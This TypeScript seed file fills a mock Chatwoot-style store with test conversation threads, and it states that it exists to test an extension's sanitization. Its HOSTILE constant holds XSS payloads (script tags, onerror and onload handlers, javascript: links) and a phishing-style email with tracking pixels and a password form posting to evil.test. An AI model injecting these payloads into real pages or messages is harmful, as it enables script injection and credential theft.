// Realistic message threads for a few account-1 conversations (issue 10 item 7), added on
// top of the §4.4 seed without changing anything the §11 expectations depend on: each
// thread sits between the conversation's first message (created_at + 10) and its newest
// one (last_activity_at), and the newest message is re-created last so ids keep growing
// with created_at inside the conversation. Its old id (2·n) is left as a gap; the content,
// sender and time of the newest message, last_activity_at and the list order do not change.
//
// The content is deliberately hostile (HTML, script, javascript: links, raw HTML e-mail):
// the fake stores it verbatim, like Chatwoot; sanitizing is the extension's job.

import type { Attachment, Conversation, Message, MessageType, SenderRef } from '../model/types';
import type { Store } from '../store';

/** Display ids (account 1) that carry a thread; LONG_THREAD has more than 50 messages. */
export const THREAD_CONVERSATIONS = Object.freeze({ chat: 1, email: 2, longThread: 4, widgets: 6 });
/** Thread messages of the long conversation (plus its two seed messages = 62). */
export const LONG_THREAD_MESSAGES = 60;

/** Hostile and formatted contents, stored verbatim (tests copy these literals). */
export const HOSTILE = Object.freeze({
  imgOnerror: '<img src=x onerror=alert(1)>',
  script: '<script>alert(1)</script>',
  javascriptLink: '[click](javascript:alert(1))',
  htmlMix: '<a href="javascript:alert(1)">x</a> <iframe src="https://evil.test/frame"></iframe> <svg onload=alert(1)> <b onmouseover="alert(1)">hover</b>',
  markdown: [
    '**Thanks!** I can help with that.',
    '',
    '1. Open [your account](https://acme.test/account)',
    '2. Click *Orders*, then _Details_',
    '',
    '- first bullet',
    '- second bullet with `inline code`',
    '',
    '```',
    'curl -s https://acme.test/status',
    '```',
  ].join('\n'),
  note: 'Heads up [@Bob Brown](mention://user/2/Bob%20Brown): the customer pasted <script>alert("note")</script>, see the **logs**',
  typography: 'He said "it works" -- see https://acme.test/help and {{contact.name}} stays literal',
  emailText: 'Hello,\n\nPlease see the invoice below.\n\nThanks,\nCustomer 02',
  emailHtml:
    '<html><head><style>body{background:url(https://tracker.evil.test/css.gif)}</style><script>alert(1)</script></head>' +
    '<body><p>Hello,</p><p>Please see the <b>invoice</b> below.</p><img src=x onerror=alert(1)>' +
    '<a href="javascript:alert(1)">Pay now</a><form action="https://evil.test/steal"><input name="password"></form>' +
    '<img src="https://tracker.evil.test/pixel.gif" width="1" height="1"></body></html>',
  imageName: '"><img src=x onerror=alert(1)>.png',
  fileName: 'invoice 2026-01 (final).pdf',
});

/** A long customer message: 40 paragraphs plus one unbroken 400-character token. */
export const LONG_MESSAGE = [
  ...Array.from({ length: 40 }, (_, i) => `Paragraph ${i + 1}: the order arrived damaged and the replacement never shipped; tracking shows no movement since last week.`),
  'x'.repeat(400),
].join('\n\n');

interface Line {
  type: MessageType;
  content: string;
  sender: SenderRef | null;
  private?: boolean;
  contentType?: string;
  contentAttributes?: Record<string, unknown>;
  status?: Message['status'];
  sourceId?: string | null;
  attachments?: Omit<Attachment, 'id'>[];
}

const contactOf = (c: Conversation): SenderRef => ({ type: 'Contact', id: c.contactId });
const user = (id: number): SenderRef => ({ type: 'User', id });

function chatThread(c: Conversation): Line[] {
  const customer = contactOf(c);
  return [
    { type: 0, content: HOSTILE.imgOnerror, sender: customer },
    { type: 0, content: HOSTILE.script, sender: customer },
    { type: 2, content: 'Assigned to Bob Brown by Alice Anderson', sender: null },
    { type: 1, content: HOSTILE.markdown, sender: user(2) },
    { type: 0, content: HOSTILE.javascriptLink, sender: customer },
    { type: 1, content: HOSTILE.note, sender: user(1), private: true },
    {
      type: 0,
      content: 'Screenshot attached',
      sender: customer,
      attachments: [{ fileType: 'image', fileName: HOSTILE.imageName, fileSize: 48213, width: 800, height: 600 }],
    },
    {
      type: 0,
      content: '',
      sender: customer,
      attachments: [
        { fileType: 'file', fileName: HOSTILE.fileName, fileSize: 182044, width: null, height: null },
        { fileType: 'audio', fileName: 'voice note.ogg', fileSize: 9120, width: null, height: null },
      ],
    },
    { type: 0, content: LONG_MESSAGE, sender: customer },
    { type: 0, content: HOSTILE.htmlMix, sender: customer },
    { type: 1, content: HOSTILE.typography, sender: user(2) },
  ];
}

function emailThread(c: Conversation): Line[] {
  const customer = contactOf(c);
  const email = {
    bcc: null,
    cc: ['accounts@example.com'],
    content_type: 'multipart/alternative',
    date: '2026-01-01T09:00:00+00:00',
    from: ['customer02@example.com'],
    html_content: { full: HOSTILE.emailHtml, reply: '<p>Hello,</p><p>Please see the <b>invoice</b> below.</p>', quoted: 'Hello,\n\nPlease see the invoice below.' },
    in_reply_to: null,
    message_id: 'c02-invoice@example.com',
    multipart: true,
    number_of_attachments: 1,
    subject: 'Invoice question <script>alert(1)</script>',
    text_content: { full: HOSTILE.emailText, reply: HOSTILE.emailText, quoted: 'Hello,' },
    to: ['inbox2@acme.test'],
  };
  return [
    {
      type: 0,
      content: HOSTILE.emailText,
      sender: customer,
      contentType: 'incoming_email',
      contentAttributes: { email },
      sourceId: 'c02-invoice@example.com',
      attachments: [{ fileType: 'file', fileName: 'invoice.pdf', fileSize: 73510, width: null, height: null }],
    },
    { type: 2, content: 'Assigned to billing by Alice Anderson', sender: null },
    {
      type: 1,
      content: 'Hi,\n\nthanks for the **invoice**. A refund of *12.50 EUR* is on its way:\n\n- order #1002\n- [refund policy](https://acme.test/refunds)',
      sender: user(3),
    },
    { type: 1, content: 'Refund approved, see ticket #42\n\n> quoted <b>bold</b> line', sender: user(3), private: true },
  ];
}

function longThread(c: Conversation): Line[] {
  const customer = contactOf(c);
  const lines: Line[] = [];
  for (let k = 1; k <= LONG_THREAD_MESSAGES; k += 1) {
    const content = `Long thread message ${k}`;
    // Notes at 10, 25, 40, 55 and one activity message at 30: five internal messages.
    if (k === 30) lines.push({ type: 2, content: 'Alice Anderson self-assigned this conversation', sender: null });
    else if (k % 15 === 10) lines.push({ type: 1, content: `${content} (note)`, sender: user(1), private: true });
    else lines.push(k % 2 === 1 ? { type: 0, content, sender: customer } : { type: 1, content, sender: user(1) });
  }
  return lines;
}

function widgetThread(c: Conversation): Line[] {
  const customer = contactOf(c);
  return [
    { type: 1, content: 'Triage: routing you to the right team', sender: { type: 'AgentBot', id: 1 } },
    {
      type: 3,
      content: 'Did this answer your question?',
      sender: { type: 'AgentBot', id: 1 },
      contentType: 'input_select',
      contentAttributes: {
        items: [
          { title: 'Yes', value: 'yes' },
          { title: '<b>No</b>', value: 'no' },
        ],
      },
    },
    { type: 0, content: 'This message was deleted', sender: customer, contentAttributes: { deleted: true } },
    {
      type: 0,
      content: 'I am here',
      sender: customer,
      attachments: [
        {
          fileType: 'location',
          fileName: '',
          fileSize: 0,
          width: null,
          height: null,
          fallbackTitle: 'Main St <b>1</b>',
          coordinatesLat: 52.52,
          coordinatesLong: 13.405,
          externalUrl: 'https://maps.example.com/?q=52.52,13.405',
        },
      ],
    },
    { type: 1, content: 'Sorry, this reply could not be delivered', sender: user(4), status: 'failed', contentAttributes: { external_error: 'Channel error <b>502</b>' } },
    { type: 0, content: 'Hello from the API channel', sender: customer, sourceId: 'api-msg-0001' },
  ];
}

/** Spreads `lines` between the first and the newest message and re-creates the newest last. */
function addThread(store: Store, conversation: Conversation, lines: Line[], nextAttachmentId: () => number): void {
  const newest = conversation.messages.pop();
  const first = conversation.messages[0];
  if (!newest || !first) throw new Error(`seed: conversation ${conversation.displayId} has no seed messages`);
  const step = Math.floor((newest.createdAt - first.createdAt) / (lines.length + 1));
  if (step < 1) throw new Error(`seed: no room for a thread in conversation ${conversation.displayId}`);
  const contact = store.contacts.get(conversation.contactId);
  lines.forEach((line, i) => {
    const at = first.createdAt + step * (i + 1);
    const message = store.addMessage(conversation, {
      accountId: conversation.accountId,
      inboxId: conversation.inboxId,
      conversationDbId: conversation.dbId,
      messageType: line.type,
      content: line.content,
      private: line.private ?? false,
      sender: line.sender,
      createdAt: at,
      updatedAt: at,
      contentType: line.contentType,
      contentAttributes: line.contentAttributes,
      status: line.status,
      sourceId: line.sourceId,
    });
    if (line.attachments) message.attachments = line.attachments.map((a) => ({ ...a, id: nextAttachmentId() }));
    // Contact last_activity_at follows its latest incoming message (§4.3).
    if (line.type === 0 && contact && (contact.lastActivityAt === null || at > contact.lastActivityAt)) contact.lastActivityAt = at;
  });
  const { id: _oldId, ...rest } = newest;
  store.addMessage(conversation, rest);
}

/** Runs after the §4.4 conversations (message ids continue at 137). */
export function seedThreads(store: Store): void {
  let attachmentId = 0;
  const nextAttachmentId = (): number => (attachmentId += 1);
  const threads: Array<[number, (c: Conversation) => Line[]]> = [
    [THREAD_CONVERSATIONS.chat, chatThread],
    [THREAD_CONVERSATIONS.email, emailThread],
    [THREAD_CONVERSATIONS.longThread, longThread],
    [THREAD_CONVERSATIONS.widgets, widgetThread],
  ];
  for (const [displayId, build] of threads) {
    const conversation = store.conversationByDisplay(1, displayId);
    if (!conversation) throw new Error(`seed: no conversation 1/${displayId}`);
    addThread(store, conversation, build(conversation), nextAttachmentId);
  }
}
